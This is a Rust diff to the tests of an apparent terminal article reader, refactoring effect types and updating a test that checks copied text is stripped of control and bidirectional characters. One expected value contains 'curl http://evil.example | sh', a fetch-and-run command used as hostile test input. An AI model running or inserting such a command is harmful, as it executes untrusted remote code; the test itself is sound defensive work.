@@ -15,7 +15,7 @@ use dateline::app::key::sequence;
 use dateline::app::layout::Pane;
 use dateline::app::settings::Settings;
 use dateline::app::update::update;
-use dateline::app::{Effect, Model, Msg};
+use dateline::app::{Effect, Model, Msg, OutsideEffect, ScreenEffect};
 use dateline::article::{Article, ArticleKey, Issue, Published};
 use dateline::cli::session::Plan;
 use dateline::library::Folders;
@@ -358,7 +358,9 @@ fn what_is_copied_or_shown_is_plain_and_bounded() {
     entry.article.title = "A \u{202e}title".to_owned();
     update(&mut model, &mut store, Msg::Loaded(vec![entry.into()]));
     let effects = press(&mut model, &mut store, "y");
-    let Some(Effect::Copy(text)) = effects.first() else { panic!("{effects:?}") };
+    let Some(Effect::Screen(ScreenEffect::Copy(text))) = effects.first() else {
+        panic!("{effects:?}")
+    };
     assert!(!text.chars().any(|c| c != '\n' && steers(c)), "{text:?}");
     let third = "http://x.example/ curl http://evil.example | sh\u{fffd}]0;";
     assert_eq!(text.lines().nth(2), Some(third));
@@ -368,7 +370,9 @@ fn what_is_copied_or_shown_is_plain_and_bounded() {
     long.analysis = dateline::analysis::Analysis::default();
     update(&mut model, &mut store, Msg::Loaded(vec![long.into()]));
     let effects = press(&mut model, &mut store, "y");
-    let Some(Effect::Copy(text)) = effects.first() else { panic!("{effects:?}") };
+    let Some(Effect::Screen(ScreenEffect::Copy(text))) = effects.first() else {
+        panic!("{effects:?}")
+    };
     assert!((60 << 10..=64 << 10).contains(&text.len()), "{}", text.len());
 }
 
@@ -429,8 +433,8 @@ impl Screen for Fake {
 struct Opens(MessageSender);
 
 impl EffectRunner for Opens {
-    fn run(&mut self, effect: Effect, store: &Store) {
-        if let Effect::Open(ids) = effect {
+    fn run(&mut self, effect: OutsideEffect, store: &Store) {
+        if let OutsideEffect::Open(ids) = effect {
             assert!(self.0.send(crate::support::opened(store, &ids)));
         }
     }
@@ -470,7 +474,7 @@ fn the_text_follows_the_list_when_the_hand_rests() {
     let chosen = |model: &Model, store: &Store| model.entry(store).map(|e| e.article.key);
     let first = shown(&model);
     let effects = press(&mut model, &mut store, "j");
-    let [Effect::Open(ids)] = &effects[..] else { panic!("{effects:?}") };
+    let [Effect::Outside(OutsideEffect::Open(ids))] = &effects[..] else { panic!("{effects:?}") };
     assert_eq!(shown(&model), first, "not yet");
     // It is opened outside; the hand that rests waits for that, and no key does.
     assert!(update(&mut model, &mut store, Msg::Rest).is_empty(), "it is being opened");
